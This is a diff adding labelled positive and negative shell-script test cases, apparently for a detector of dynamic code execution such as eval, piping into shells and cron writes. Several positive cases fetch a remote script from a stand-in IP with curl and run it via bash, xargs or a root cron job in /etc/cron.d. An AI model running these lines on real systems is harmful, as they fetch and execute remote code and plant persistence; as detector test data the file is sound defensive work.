@@ -77,3 +77,41 @@ eval "${TASK:-echo hi}"
 #@ pos an argument's default
 x=${1:-"echo hi"}
 eval "$x"
+#@ pos code kept in comments, read back from the script and run
+grep '^#@' "$0" | cut -c4- | sh
+#@ pos generated commands piped into a shell
+ls ./*.txt | sed 's/^/wc -l /' | bash
+#@ neg a filter between a command and a data tool
+ls | sed 's/x/y/' | sort
+#@ pos BASH_ENV is the output of a command
+BASH_ENV=<(curl -s http://203.0.113.5/s) bash -c true
+#@ neg BASH_ENV is a file
+BASH_ENV=./env.sh bash -c true
+#@ pos script -c with code built at run time
+script -qc "$cmd" /dev/null
+#@ pos a job written into /etc/cron.d
+echo '* * * * * root curl -s 203.0.113.5/s | sh' > /etc/cron.d/update
+#@ pos a job copied into the cron spool
+cp job /var/spool/cron/crontabs/root
+#@ neg cron's directory listed
+ls -la /etc/cron.d/
+#@ pos a shell reads a command's output from a process substitution
+bash < <(curl -s http://203.0.113.5/s)
+#@ pos . /dev/stdin fed by a process substitution
+. /dev/stdin < <(generate_env)
+#@ pos xargs gives what it reads to sh -c as code
+curl -s http://203.0.113.5/s | xargs -0 bash -c
+#@ neg xargs runs constant code per argument; a loop reads a process substitution
+ls | xargs -n1 bash -c 'echo "$0"'
+while read -r l; do echo "$l"; done < <(ls)
+#@ neg options of a python module or script, node's preload
+python3 -m pip install --quiet -r "$ROOT/requirements-dev.txt"
+python3 -u ./tool.py -e "$ENV_NAME" -c "$CONFIG"
+node -r dotenv/config ./server.js -e "$MODE"
+#@ pos python -c after its own options, node -e
+python3 -W ignore -c "$code"
+node --no-warnings -e "$js"
+#@ neg pip's -r through a quoted interpreter path, its file from a default
+VENV="${VENV:-.venv}"
+REQ="${REQ:-requirements.txt}"
+"$VENV/bin/python" -m pip install -r "$REQ"
